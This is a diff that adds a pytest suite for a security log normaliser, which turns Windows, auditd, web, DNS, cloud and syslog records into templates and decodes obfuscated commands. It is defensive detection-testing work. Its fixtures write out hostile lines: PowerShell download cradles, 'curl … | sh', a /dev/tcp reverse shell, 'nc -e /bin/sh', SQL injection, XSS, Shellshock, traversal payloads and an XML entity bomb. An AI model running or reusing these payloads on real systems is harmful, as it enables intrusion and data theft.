@@ -1,0 +1,295 @@
+"""What the normaliser makes of every family, and what no text may do to it."""
+from __future__ import annotations
+
+import json
+import random
+from base64 import b64encode
+
+import pytest
+from hypothesis import given, settings, strategies as st
+
+from aiscore_contract.event import Event, event_of
+from aiscore_contract.limits import TEXT_MAX_CHARS
+from aiscore_model.decode import MAX_CHARS, decode_command, decode_url
+from aiscore_model.formats.draft import ENTITY_NAMES, TEMPLATE_MAX_CHARS
+from aiscore_model.normalise import KINDS, Normalised, normalise
+
+
+def read(text, sourcetype="", **context) -> Normalised:
+    if not isinstance(text, str):
+        text = json.dumps(text)
+    return normalise(event_of(text, sourcetype, **context))
+
+
+def xml(event_id, provider="Microsoft-Windows-Security-Auditing", **data):
+    fields = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in data.items())
+    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}' Guid='{{0}}'/>"
+            f"<EventID>{event_id}</EventID><Level>0</Level><TimeCreated SystemTime='2031-02-03T04:05:06Z'/><EventRecordID>77</EventRecordID>"
+            f"<Channel>Security</Channel><Computer>pc-0815.example.net</Computer><Security/></System><EventData>{fields}</EventData></Event>")
+
+
+ENCODED = b64encode("iex (new-object net.webclient).downloadstring('http://203.0.113.5/x')".encode("utf-16-le")).decode()
+
+#: (text, sourcetype, kind, words the template has, entities it gives)
+EXAMPLES = [
+    # Windows
+    (xml(4625, TargetUserName="eve", LogonType="3", IpAddress="203.0.113.9", SubStatus="0xC000006A"), "", "windows",
+     "logon failed / network / wrong password / publicip", {"src": "203.0.113.9", "target": "eve", "host": "pc-0815.example.net"}),
+    (xml(1, "Microsoft-Windows-Sysmon", Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine=f"powershell -w hidden -enc {ENCODED}",
+         ParentImage="C:\\Program Files\\Office\\WINWORD.EXE", User="EXAMPLE\\eve", RuleName="technique_id=T1059"), "XmlWinEventLog", "windows",
+     "process create / encodedcommand / downloadstring / parent program files office winword exe", {"process": "powershell.exe", "parent": "winword.exe", "user": "example\\eve"}),
+    (xml(1, "Linux-Sysmon", Image="/usr/bin/curl", CommandLine="curl -s http://198.51.100.3/i.sh -o /tmp/i.sh", User="root"), "", "windows", "process create / curl / root / tmp", {"process": "curl"}),
+    ({"EventID": 4688, "Channel": "Security", "NewProcessName": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all /priv", "SubjectUserName": "SRV01$"}, "", "windows",
+     "process create / whoami / machine account", {"process": "whoami.exe", "user": "srv01$"}),
+    ({"@timestamp": "2031-01-01T00:00:00Z", "winlog": {"event_id": 7045, "provider_name": "Service Control Manager", "event_data": {"ServiceName": "upd", "ImagePath": "%COMSPEC% /c echo x > \\\\.\\pipe\\y"}}}, "", "windows",
+     "service installed / comspec / pipe", {"service": "upd"}),
+    ({"Event": {"System": {"EventID": {"#text": 4104}, "Provider": {"@Name": "Microsoft-Windows-PowerShell"}, "Channel": "x"}, "EventData": {"ScriptBlockText": "Invoke-WebRequest http://203.0.113.1/a.exe"}}}, "", "windows",
+     "powershell script block / invoke web request / publicip", {}),
+    ("03/01/2031 01:02:03 PM\nLogName=Security\nEventCode=4624\nComputerName=dc7\nMessage=An account was successfully logged on.\n\nSubject:\n\tAccount Name:\t\t-\n\nLogon Type:\t\t10\n\nNew Logon:\n\tAccount Name:\t\tbob\n\nNetwork Information:\n\tSource Network Address:\t198.51.100.8\n",
+     "WinEventLog:Security", "windows", "logon success / remote interactive / publicip", {"target": "bob", "src": "198.51.100.8"}),
+    # auditd
+    ('type=EXECVE msg=audit(1900000000.123:42): argc=3 a0="curl" a1="-o" a2="/tmp/.x"', "", "auditd", "process execute / command curl / tmp", {"process": "curl"}),
+    ("type=PROCTITLE msg=audit(1900000000.123:42): proctitle=" + b"nc\x00-e\x00/bin/sh".hex().upper(), "", "auditd", "process title / nc e bin sh", {"process": "nc"}),
+    ('type=SYSCALL msg=audit(1900000000.1:9): arch=c000003e syscall=175 success=no exit=-1 a0=1 ppid=2 pid=3 auid=1000 uid=0 euid=0 tty=pts0 ses=1 comm="insmod" exe="/usr/bin/kmod" key="modules"',
+     "", "auditd", "system call / init module / failed / not permitted / root", {"process": "kmod", "user": "1000"}),
+    ("node=web3 type=USER_LOGIN msg=audit(1900000000.1:9): pid=7 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"admin\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.7 terminal=ssh res=failed'",
+     "", "auditd", "login / failed / administrator / publicip", {"src": "203.0.113.7", "host": "web3"}),
+    # web
+    ('198.51.100.2 - - [01/Mar/2031:10:11:12 +0000] "GET /shop/item?id=1%2527%20UNION%20SELECT%201,2-- HTTP/1.1" 500 312 "-" "sqlmap/1.9"', "access_combined", "web",
+     "http get / doubleencoded / quote union select num / server error / attack tool sqlmap", {"src": "198.51.100.2", "path": "/shop/item"}),
+    ('web1:443 198.51.100.2 - bob [01/Mar/2031:10:11:12 +0000] "POST /login HTTP/2.0" 302 0 "https://example.org/" "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"', "", "web",
+     "http post path login / redirect / agent browser firefox linux / referred", {"user": "bob"}),
+    ("2031-03-01 10:11:12 10.0.0.5 GET /owa/auth.aspx x=../../etc/passwd 443 - 203.0.113.44 Mozilla/5.0+(Windows+NT+10.0)+Chrome/140.0 - 404 0 2 15", "iis", "web",
+     "http get / owa auth aspx / traversal / not found / chrome", {"src": "203.0.113.44"}),
+    ("POST /api/v1/users HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\nContent-Length: 30\r\n\r\nname=<script>alert(1)</script>", "", "web",
+     "http post / less script greater alert / agent odd", {"domain": "shop.example.com"}),
+    ("1900000000.123    250 10.1.2.3 TCP_MISS/200 5120 GET http://example.com/setup.exe bob DIRECT/203.0.113.1 application/octet-stream", "squid", "web",
+     "http get / proxy tcp miss / setup exe / success", {"src": "10.1.2.3", "user": "bob", "domain": "example.com"}),
+    ('Mar  1 10:11:12 lb1 haproxy[123]: 203.0.113.9:4711 [01/Mar/2031:10:11:12.123] fe~ be/web1 0/0/1/12/13 403 210 - - ---- 1/1/0/0/0 0/0 "GET /.git/config HTTP/1.1"', "", "web",
+     "http get / hidden git config / forbidden", {"src": "203.0.113.9", "host": "lb1"}),
+    ({"transaction": {"client_ip": "203.0.113.2", "request": {"method": "GET", "uri": "/?q=%3Csvg/onload=alert(1)%3E", "headers": {"User-Agent": "curl/8.0", "Host": "example.org"}}, "response": {"http_code": 403},
+                      "messages": [{"message": "XSS Attack Detected"}]}}, "", "web", "http get / less svg onload / forbidden / agent tool curl / xss attack detected", {"src": "203.0.113.2"}),
+    ("/index.php?page=php://filter/convert.base64-encode/resource=config", "", "web", "http request / index php / filter", {}),
+    # dns
+    ("01-Mar-2031 10:11:12.123 queries: info: client @0x7f0000000000 10.9.8.7#5353 (qzxkvjwpqhtrmd.top): query: qzxkvjwpqhtrmd.top IN TXT +E(0) (10.0.0.2)", "", "dns",
+     "dns query / domain top / random / text record", {"domain": "qzxkvjwpqhtrmd.top", "src": "10.9.8.7"}),
+    ("Mar  1 10:11:12 gw dnsmasq[77]: query[A] updates.example.com from 192.168.1.5", "", "dns", "dns query / domain com wordlike / address record", {"src": "192.168.1.5"}),
+    ({"ts": 1900000000.1, "uid": "C1", "id.orig_h": "10.0.0.9", "id.orig_p": 5000, "id.resp_h": "10.0.0.2", "id.resp_p": 53, "proto": "udp", "query": "mail.example.org", "qtype_name": "MX", "rcode_name": "NXDOMAIN"},
+     "bro:dns:json", "dns", "dns query / mail record / nxdomain", {"domain": "mail.example.org"}),
+    ("kjhqwezxcvbnmpo.biz", "", "dns", "dns query / random", {"domain": "kjhqwezxcvbnmpo.biz"}),
+    # flows and sensors
+    ({"ts": 1900000000.1, "uid": "C1", "id.orig_h": "10.0.0.9", "id.orig_p": 50000, "id.resp_h": "203.0.113.200", "id.resp_p": 4444, "proto": "tcp", "conn_state": "S0", "history": "S", "orig_bytes": 0, "resp_bytes": 0},
+     "bro:conn:json", "flow", "connection tcp / backdoor port / attempt no reply / responder silent / publicip", {"dest": "203.0.113.200", "port": "4444"}),
+    ("2 123456789012 eni-0a1b2c3d 203.0.113.12 10.0.1.5 40000 22 6 20 4249 1900000000 1900000060 REJECT OK", "", "flow", "connection tcp / ssh port / failed", {"src": "203.0.113.12", "port": "22"}),
+    ({"timestamp": "2031-01-01T00:00:00", "flow_id": 1, "event_type": "alert", "src_ip": "10.1.1.1", "dest_ip": "203.0.113.1", "dest_port": 80, "proto": "TCP", "alert": {"action": "allowed", "signature": "ET MALWARE Beacon", "category": "Trojan", "severity": 1},
+      "http": {"hostname": "example.net", "url": "/gate.php", "http_method": "POST"}}, "", "flow", "network alert severity high et malware beacon / http post / gate php", {"src": "10.1.1.1"}),
+    # cloud
+    ({"eventVersion": "1.08", "eventTime": "2031-01-01T00:00:00Z", "eventSource": "iam.amazonaws.com", "eventName": "AttachUserPolicy", "awsRegion": "eu-west-9", "sourceIPAddress": "203.0.113.20", "userAgent": "aws-cli/2.0",
+      "errorCode": "AccessDenied", "userIdentity": {"type": "IAMUser", "userName": "eve", "accountId": "123456789012"}, "requestParameters": {"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess", "userName": "eve"}, "readOnly": False}, "", "cloud",
+     "change identity attach user policy / failed / access denied / administrator privilege / iam user / writes", {"user": "eve", "src": "203.0.113.20", "region": "eu-west-9"}),
+    ({"CreationTime": "2031-01-01T00:00:00", "Operation": "New-InboxRule", "Workload": "Exchange", "ResultStatus": "True", "UserId": "eve@example.org", "ClientIP": "203.0.113.4", "Parameters": [{"Name": "ForwardTo", "Value": "x@example.net"}]}, "", "cloud",
+     "create mail new inbox rule / exchange / success / mail forwarding / forward to", {"user": "eve@example.org"}),
+    ({"time": "2031-01-01T00:00:00Z", "operationName": "MICROSOFT.KEYVAULT/VAULTS/DELETE", "category": "Administrative", "resultType": "Success", "callerIpAddress": "203.0.113.5",
+      "resourceId": "/subscriptions/0/resourceGroups/g/providers/Microsoft.KeyVault/vaults/v"}, "", "cloud", "remove / success / publicip / vaults", {"src": "203.0.113.5"}),
+    ({"time": "2031-01-01T00:00:00Z", "category": "SignInLogs", "resultType": "50126", "properties": {"userPrincipalName": "bob@example.org", "ipAddress": "203.0.113.6", "appDisplayName": "Portal"}, "operationName": "Sign-in activity"}, "", "cloud",
+     "failed / publicip", {"user": "bob@example.org"}),
+    ({"protoPayload": {"methodName": "google.iam.admin.v1.CreateServiceAccountKey", "serviceName": "iam.googleapis.com", "authenticationInfo": {"principalEmail": "bob@example.org"}, "requestMetadata": {"callerIp": "203.0.113.7"}}, "severity": "NOTICE"},
+     "", "cloud", "create credential / service account key / publicip", {"user": "bob@example.org"}),
+    ({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "verb": "create", "user": {"username": "system:anonymous"}, "sourceIPs": ["203.0.113.8"], "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "kube-system"},
+      "responseStatus": {"code": 403}}, "", "cloud", "create compute / pods exec system namespace / kubernetes / failed / anonymous", {"src": "203.0.113.8"}),
+    ({"eventType": "user.mfa.factor.deactivate", "actor": {"alternateId": "bob@example.org", "type": "User"}, "client": {"ipAddress": "203.0.113.3", "userAgent": {"rawUserAgent": "curl/8"}}, "outcome": {"result": "SUCCESS"}}, "", "cloud",
+     "remove credential / mfa factor deactivate / success / agent tool curl", {"user": "bob@example.org"}),
+    ({"source": "aws.s3", "detail-type": "AWS API Call", "detail": {"eventName": "PutBucketAcl", "eventSource": "s3.amazonaws.com", "userIdentity": {"type": "Root"}, "sourceIPAddress": "203.0.113.1"}}, "", "cloud", "put bucket acl / actor root", {}),
+    # syslog
+    ("Mar  1 10:11:12 web3 sshd[123]: Failed password for invalid user oracle from 203.0.113.77 port 4242 ssh2", "", "syslog", "login failed ssh password invalid user / publicip", {"user": "oracle", "src": "203.0.113.77", "host": "web3"}),
+    ("<86>1 2031-03-01T10:11:12.123Z web3 sshd 123 - - Accepted publickey for bob from 10.2.3.4 port 4242 ssh2: RSA SHA256:abc", "", "syslog", "login success ssh publickey / privateip", {"user": "bob"}),
+    ("2031-03-01T10:11:12.123456+00:00 web3 sudo[9]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash -c 'cat /etc/shadow'", "", "syslog", "privileged command sudo / etc shadow / as root", {"user": "bob", "target": "root"}),
+    ("Mar  1 10:11:12 web3 CRON[9]: (root) CMD (curl http://203.0.113.2/x | sh)", "", "syslog", "scheduled command cron / curl / pipe sh", {"user": "root"}),
+    ("Mar  1 10:11:12 web3 kernel: [1.2] DROP IN=eth0 OUT= MAC=00 SRC=203.0.113.3 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=5 DPT=23 WINDOW=1 SYN", "", "syslog", "firewall drop tcp / telnet port syn", {"src": "203.0.113.3", "port": "23"}),
+    ("Mar  1 10:11:12 mx postfix/smtpd[9]: warning: unknown[203.0.113.5]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "", "syslog", "mail postfix smtpd / publicip sasl login authentication failed", {"src": "203.0.113.5"}),
+    ({"MESSAGE": "Invalid user admin from 203.0.113.6 port 22", "SYSLOG_IDENTIFIER": "sshd", "_HOSTNAME": "web3", "_SYSTEMD_UNIT": "ssh.service", "__REALTIME_TIMESTAMP": "1"}, "", "syslog",
+     "login failed ssh invalid user / publicip", {"user": "admin", "host": "web3", "service": "ssh.service"}),
+    # key=value, CEF, LEEF
+    ('date=2031-03-01 time=10:11:12 devname="fw1" logid="1" type="traffic" subtype="forward" action="deny" srcip=10.0.0.5 dstip=203.0.113.9 dstport=3389 proto=6 sentbyte=0 rcvdbyte=0', "", "keyvalue",
+     "traffic / deny / tcp / privateip / publicip / rdp port", {"src": "10.0.0.5", "dest": "203.0.113.9", "action": "deny"}),
+    ("Mar  1 10:11:12 gw CEF:0|Vendor|IDS|1.0|100|SQL Injection Attempt|8|src=203.0.113.9 dst=10.0.0.8 dpt=80 request=/a.php?id\\=1' or '1'\\='1 act=blocked suser=bob", "", "keyvalue",
+     "sql injection attempt severity critical / blocked failed / quote or quote", {"src": "203.0.113.9", "user": "bob"}),
+    ("LEEF:2.0|Vendor|Product|1.0|LoginFailed|^|src=203.0.113.9^usrName=bob^reason=bad password", "", "keyvalue", "login failed / publicip / bad password", {"user": "bob", "src": "203.0.113.9"}),
+    # unknown JSON, text, commands
+    ({"level": "error", "msg": "payment refused", "user": "bob", "amount": 12.5, "trace_id": "0f8fad5b-d9cb-469f-a165-70867728950e"}, "app", "json", "payment refused / level error", {"user": "bob"}),
+    ('{"level":"warn","msg":"cut off in the mid', "", "json", "warn / cut off in the mid", {}),
+    ("Worker 17 lost contact with 10.0.0.7 after 30 s", "", "text", "worker num lost contact with privateip after num", {}),
+    ("powershell.exe -nop -c \"i`e`x (gc C:\\Users\\bob\\x.txt)\"", "", "text", "command / obfuscated / powershell exe nop c iex", {}),
+    ("", "", "text", "", {}),
+]
+
+
+@pytest.mark.parametrize("text, sourcetype, kind, words, entities", EXAMPLES, ids=[f"{row[2]}-{position}" for position, row in enumerate(EXAMPLES)])
+def test_every_family_says_what_happened(text, sourcetype, kind, words, entities):
+    found = read(text, sourcetype)
+    assert found.kind == kind
+    for phrase in filter(None, words.split(" / ")):
+        assert f" {phrase} " in f" {found.template} ", found.template
+    for name, value in entities.items():
+        assert dict(found.entities).get(name) == value, found.entities
+
+
+@pytest.mark.parametrize("text, sourcetype, kind, words, entities", EXAMPLES, ids=[f"{row[2]}-{position}" for position, row in enumerate(EXAMPLES)])
+def test_a_template_names_nobody_and_no_address(text, sourcetype, kind, words, entities):
+    template = read(text, sourcetype, host="srv-4711").template
+    for private in ("203", "198.51", "10.0", "pc-0815", "srv-4711", "123456789012", "0f8fad5b", "4242", "web3"):
+        assert private not in template
+
+
+@pytest.mark.parametrize("row", EXAMPLES, ids=[f"{row[2]}-{position}" for position, row in enumerate(EXAMPLES)])
+def test_an_unknown_sourcetype_is_read_by_its_text(row):
+    assert read(row[0], "acme:custom:thing").kind in (row[2], "web")
+
+
+def test_the_result_depends_on_the_event_alone():
+    events = [event_of(row[0] if isinstance(row[0], str) else json.dumps(row[0]), row[1]) for row in EXAMPLES]
+    first = [normalise(event) for event in events]
+    order = list(range(len(events)))
+    random.Random(7).shuffle(order)
+    again = {position: normalise(events[position]) for position in order}
+    assert [again[position] for position in range(len(events))] == first
+
+
+def test_two_sites_that_differ_in_names_alone_give_one_template():
+    line = 'Mar {day} 10:11:12 {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2'
+    one = line.format(day="1", host="alpha", pid=1, user="anna", ip="203.0.113.7", port=4000)
+    other = line.format(day="27", host="zeta-9.example.org", pid=99_999, user="otto", ip="198.51.100.250", port=65_000)
+    assert read(one).template == read(other).template
+
+
+def test_the_same_lookup_in_two_formats_says_the_same_of_the_name():
+    bind = read("01-Mar-2031 10:11:12.1 queries: info: client 10.0.0.1#53 (vqkxjzw7h3rtqp.info): query: vqkxjzw7h3rtqp.info IN A + (10.0.0.2)")
+    zeek = read({"id.orig_h": "10.0.0.1", "query": "vqkxjzw7h3rtqp.info", "qtype_name": "A"}, "bro:dns:json")
+    assert bind.template.split(" address record")[0] == zeek.template.split(" address record")[0]
+    assert bind.focus == zeek.focus == ("vqkxjzw7h3rtqp.info",)
+
+
+def test_the_hour_comes_from_the_time_of_the_event_in_utc():
+    assert dict(read("x", time="1900000000.5").entities)["hour"] == "17"
+    assert "hour" not in dict(read("x", time="yesterday").entities)
+    assert "hour" not in dict(read("x", time="nan").entities)
+
+
+def test_secrets_stay_out_of_template_entities_and_focus():
+    for text in ('1.2.3.4 - - [01/Mar/2031:10:11:12 +0000] "GET /login?user=bob&password=Tr0ub4dor&token=abc123def456 HTTP/1.1" 200 5 "-" "curl/8"',
+                 xml(4688, NewProcessName="C:\\Windows\\System32\\net.exe", CommandLine="net use \\\\srv\\c$ --password Tr0ub4dor"),
+                 json.dumps({"user": "bob", "password": "Tr0ub4dor", "note": "login"}), "app login password=Tr0ub4dor ok=1 user=bob"):
+        found = read(text)
+        assert "tr0ub4dor" not in " ".join((found.template, *found.focus, *(value for _, value in found.entities))).lower()
+
+
+def test_an_attack_in_a_password_field_is_not_redacted_away():
+    found = read("POST /login HTTP/1.1\nHost: example.org\n\nlogin=bob&password=' or '1'='1")
+    assert "quote or quote" in found.template
+
+
+def test_site_chosen_rule_names_are_not_read():
+    found = read(xml(11, "Microsoft-Windows-Sysmon", RuleName="technique_id=T1105,alert", Image="C:\\a.exe", TargetFilename="C:\\b.txt"))
+    assert "technique" not in found.template
+    assert "benign" not in read('type=SYSCALL msg=audit(1.1:1): syscall=59 success=yes exe="/bin/ls" key="benign"').template
+
+
+# -- decoding ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text, plain", [
+    ("%27%20or%201", "' or 1"), ("a+b", "a b"), ("%253Cscript%253E", "<script>"), ("%u003cb%u003e", "<b>"), ("&lt;b&gt;", "<b>"),
+    ("\\u003cimg\\x3e", "<img>"), ("..%c0%af..%c0%afetc", "../../etc"), ("%zz%4", "%zz%4"), ("caf%C3%A9", "caf\u00e9"), ("a%F1o", "a\u00f1o"),
+])
+def test_urls_are_decoded(text, plain):
+    assert decode_url(text).text == plain
+
+
+@pytest.mark.parametrize("text, plain, note", [
+    (f"powershell -EncodedCommand {ENCODED}", "downloadstring", "encodedcommand"),
+    ("echo " + b64encode(b"bash -i >& /dev/tcp/203.0.113.1/443 0>&1").decode() + " | base64 -d | sh", "/dev/tcp/203.0.113.1", "base64"),
+    ("c^m^d /c who^ami", "cmd /c whoami", "obfuscated"),
+    ("&('i'+'e'+'x')", "'iex'", "obfuscated"),
+    ("Inv`oke-Expr`ession", "Invoke-Expression", "obfuscated"),
+    ("[char]105+[char]101+[char]120", "iex", "obfuscated"),
+    ("cat${IFS}/etc/passwd", "cat /etc/passwd", "obfuscated"),
+    ("echo 6375726c20687474703a2f2f6578616d706c65 | xxd -r -p", "curl http://example", "hexencoded"),
+    ("w''ho''ami", "whoami", "obfuscated"),
+    ("pOwErShElL -nOpRoFiLe", "pOwErShElL", "oddcase"),
+])
+def test_commands_are_decoded(text, plain, note):
+    decoded = decode_command(text)
+    assert plain in decoded.text and note in decoded.notes
+
+
+@pytest.mark.parametrize("text", ["C:\\Program Files\\App\\app.exe /run", "ls -la /var/log", "git commit -m 'fix'", "/usr/lib/systemd/systemd-logind", "microsoftwindowsclientcbscw5n1h2txyewy"])
+def test_an_ordinary_command_stays_as_it_is(text):
+    assert decode_command(text) == (text, ())
+
+
+# -- any text ------------------------------------------------------------------------------------
+
+def check(found: Normalised) -> None:
+    assert found.kind in KINDS
+    assert len(found.template) <= TEMPLATE_MAX_CHARS
+    assert found.template == " ".join(found.template.split())
+    assert len(found.entities) <= 16 and all(name in ENTITY_NAMES and value and len(value) <= 256 for name, value in found.entities)
+    assert len(found.focus) <= 4 and all(payload and len(payload) <= MAX_CHARS for payload in found.focus)
+    hash(found)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(max_size=600), st.sampled_from(["", "access_combined", "bro:conn:json", "linux_audit", "WinEventLog", "http:request"]))
+def test_any_text_is_read(text, sourcetype):
+    check(read(text, sourcetype))
+
+
+JSON = st.recursive(st.none() | st.booleans() | st.integers(-2**53, 2**53) | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=30),
+                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=5), max_leaves=20)
+KEYS = st.sampled_from("""eventName eventSource userIdentity protoPayload objectRef verb Operation Parameters actor EventID Channel winlog Event event_type src_ip http dns tls flow alert
+    transaction request id.orig_h query qtype_name answers TTLs conn_state history duration uri method status_code httpRequest MESSAGE SYSLOG_IDENTIFIER message detail sourceIPs
+    requestParameters additionalEventData Message CommandLine EventData dstPort action name host time""".split())
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.dictionaries(KEYS, JSON, max_size=8), st.sampled_from(["", "bro:http:json", "bro:dns:json", "bro:ssl:json", "bro:files:json", "zeek:notice:json"]))
+def test_records_with_known_keys_and_odd_values_are_read(record, sourcetype):
+    check(read(json.dumps(record), sourcetype))
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(EXAMPLES), st.integers(0, 400), st.text(max_size=8))
+def test_lines_cut_anywhere_and_with_junk_in_them_are_read(row, position, junk):
+    text = row[0] if isinstance(row[0], str) else json.dumps(row[0])
+    check(read(text[:position], row[1]))
+    check(read(text[:position] + junk + text[position:], row[1]))
+
+
+def hostile():
+    size = TEXT_MAX_CHARS
+    deep = size // 12
+    return {
+        "long a": "a" * size, "long mixed": "aB3" * (size // 3), "percent": "/?q=" + "%2541" * (size // 5), "percent broken": "GET /" + "%" * (size - 20) + " HTTP/1.1",
+        "json depth": '{"a":' * deep + "1" + "}" * deep, "json array depth": '{"a":' + "[" * (size // 2) , "json wide": json.dumps({f"k{n}": n for n in range(2_500)})[:size],
+        "json quotes": '{"' + '\\"' * (size // 2), "xml flood": "<Event><System><EventID>1</EventID></System>" + "<Data Name='a'>" * (size // 16),
+        "xml entity bomb": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY a{n} "&a;&a;&a;&a;">' for n in range(400)) + "]><Event><System><EventID>1</EventID></System><EventData><Data Name='CommandLine'>"
+                           + "&a399;" * 3_000 + "</Data></EventData></Event>",
+        "xml unclosed": "<Event><System><Provider Name='" + "x" * size, "xml angle": "<Event" + "<" * size,
+        "pairs": "a=1 " * (size // 4), "pairs quoted": 'a="' * (size // 3), "equals": "=" * size, "spaces": "x" + " " * (size - 2) + "y", "digits": "1" * size, "digits dashed": "1-" * (size // 2),
+        "dots": "a." * (size // 2), "colons": "a:" * (size // 2), "slashes": "/a" * (size // 2), "backslashes": "\\" * size, "quotes": '"' * size, "single quotes": "'" * size,
+        "access quotes": '1.1.1.1 - - [01/Mar/2031:10:11:12 +0000] "GET /' + '\\"' * (size // 2), "carets": "^a" * (size // 2), "backticks": "`a" * (size // 2), "base64": "powershell -enc " + "QUFB" * (size // 4),
+        "base64 runs": ("QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB " * (size // 37)), "hex": "type=PROCTITLE msg=audit(1.1:1): proctitle=" + "41" * (size // 2 - 40), "chars": "powershell " + "[char]65+" * (size // 9),
+        "audit flood": "type=EXECVE msg=audit(1.1:1): " + "".join(f"a{n}=x " for n in range(5_000)), "cef": "CEF:0|" + "a|" * (size // 2), "cef escapes": "CEF:0|" + "\\" * (size - 10),
+        "syslog": "<1>1 " + "- " * (size // 2), "syslog brackets": "<34>1 2031-01-01T00:00:00Z h p 1 m [a" + ' b="c"' * (size // 7), "sudo": "Mar  1 10:11:12 h sudo: " + "x : " * (size // 4), "concat": "'a'+" * (size // 4),
+        "query": "GET /?" + "a=b&" * (size // 4), "query semicolons": "GET /?" + ";a" * (size // 2) + " HTTP/1.1", "headers": "GET / HTTP/1.1\n" + "A: b\n" * (size // 5), "header": "GET / HTTP/1.1\nCookie: " + "a=b;" * (size // 4),
+        "haproxy": "1.1.1.1:1 [" + "a" * 30 + "] " + "1/" * (size // 2), "windows text": "EventCode=1\n" + "A:\tb\n" * (size // 5), "windows colons": "EventCode=1\n" + "A " * (size // 2), "unicode": "\u0130\ufdfa" * (size // 2),
+        "zero width": "\u200b" * size, "escapes": "\x1b[" * (size // 2), "pem": "-----BEGIN PRIVATE KEY-----" + "A" * size, "jwt": "eyJ" + "a." * (size // 2), "password": "password=" * (size // 9), "cards": "4111 " * (size // 5),
+        "iban": "DE89 " * (size // 5), "emails": "a@b." * (size // 4), "ipv6": ":1" * (size // 2), "domain": "a-" * (size // 2) + ".com", "dga": "query: " + "x" * size, "pam": "Mar  1 10:11:12 h sshd[1]: pam_unix(sshd:auth): " + "user=" * (size // 5),
+        "from": "Mar  1 10:11:12 h sshd[1]: Disconnected from " * (size // 46), "user tool": "Mar  1 10:11:12 h useradd[1]: new user" + " " * size,
+    }
+
+
+@pytest.mark.parametrize("name", sorted(hostile()))
+@pytest.mark.timeout(20)  # A guard, no measurement: quadratic work on 36,864 characters takes minutes.
+def test_hostile_text_is_read_in_bounded_work(name):
+    text = hostile()[name][:TEXT_MAX_CHARS]
+    check(normalise(Event(text)))
